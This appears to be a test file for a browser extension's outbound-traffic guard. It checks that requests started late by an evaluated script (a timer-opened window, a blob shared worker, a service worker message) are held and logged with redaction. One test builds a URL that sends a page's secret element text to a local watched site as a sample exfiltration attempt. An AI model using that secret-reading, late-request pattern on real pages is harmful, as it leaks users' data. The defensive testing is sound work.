// What an eval's script starts after it returned, in the person's Chrome through the real extension (as the engine's
// egress-late test does in the fallback): a window its timer opens, a blob shared worker its timer starts, a message it
// posts to the site's service worker reach no one, and the window's request is named next; the page's own sends flow.
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { OperationResult } from '../../shared/protocol/operations.js';
import { lateSharedWorker } from '../support/late-scripts.js';
import { heldLater as heldOf } from '../support/late-results.js';
import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';
import { testServerPolicy } from '../support/test-policy.js';
import { startEgressTab, type EgressTab } from './support/egress-tab.js';
import type { LinkedExtension } from './support/linked-extension.js';
import type { PageProbe } from './support/page-probe.js';
import { reachedBesidesOwn } from './support/reached-site.js';
import { until } from './support/until.js';
import { forgetWatched, withSite } from './support/watched-popups.js';

let started: EgressTab;
let linked: LinkedExtension;
let watched: WatchedSite;
let tab: string;
let page: PageProbe;
const KEY = `document.getElementById('secret').textContent`;

beforeAll(async () => {
  watched = await startWatchedSite();
  // The watched site may be read and acted on, so a window to it meets no policy refusal: only the hold stops it.
  const policy = () => withSite(testServerPolicy('trusted', ['127.0.0.1']), watched, 'act');
  started = await startEgressTab(policy, 'egress-late.html');
  ({ linked, tab, page } = started);
});

afterAll(async () => {
  await started?.close();
  await watched?.close();
});

afterEach(() => forgetWatched(linked, watched));

const run = (expression: string) => linked.run('eval', { tab, expression });

const heldLater = (result: OperationResult) => heldOf(result, watched);

const reached = () => reachedBesidesOwn(page, watched);

describe('what a script starts after it returned stays held, through the extension', () => {
  it('a window a timer opens: its first request is held, the next result names it, the window is closed', async () => {
    await run(`setTimeout(() => { window.open('${watched.origin}/popup-late?key=' + encodeURIComponent(${KEY}));
      window.opened = true; }, 1000); 0`);
    await page.until('opened');
    // Settled either way: the request reached the site, or a result names the hold (the host hears of it a moment later).
    const later = await until(
      async () => (watched.requests.some((path) => path.startsWith('/popup-late')) ? [] : heldLater(await run('1'))),
      (held) => held.length > 0 || watched.requests.some((path) => path.startsWith('/popup-late')),
      20_000,
    );
    expect(await reached()).toEqual([]);
    // webNavigation, where the extension hears of the blocked window, names no method: the entry does not guess one.
    expect(later).toEqual(['W/popup-late?key=[redacted 34 chars] (navigation, method not known)']);
    const watchedTabs = () =>
      linked.browser.evaluate<number>(`chrome.tabs.query({ url: '${watched.origin}/*' }).then((tabs) => tabs.length)`);
    expect(await until(watchedTabs, (count) => count === 0)).toBe(0);
  });

  it('a shared worker a timer starts from a blob, whose fetch reaches no one', async () => {
    await run(lateSharedWorker(`${watched.origin}/shared-late`));
    await page.until('sharedDone');
    expect(await reached()).toEqual([]);
  });

  it('a message the script posts to the site’s service worker, which fetches as it is told', async () => {
    // The site's worker controls the page first (the page's own doing, not the script's).
    await page.evaluate(
      `navigator.serviceWorker.register('/egress-late-sw.js').then(() => navigator.serviceWorker.controller
        ? true : new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', () => resolve(true))))`,
    );
    await run(`navigator.serviceWorker.onmessage = () => (window.swDone = true);
      setTimeout(() => navigator.serviceWorker.controller.postMessage('${watched.origin}/sw-late'), 1000); 0`);
    await page.until('swDone');
    expect(await reached()).toEqual([]);
  });

  it('the page’s own sends to that origin flow, after every script', async () => {
    await run('1');
    expect(await reached()).toEqual([]);
    expect(watched.requests).toEqual(['/page-own']);
  });
});
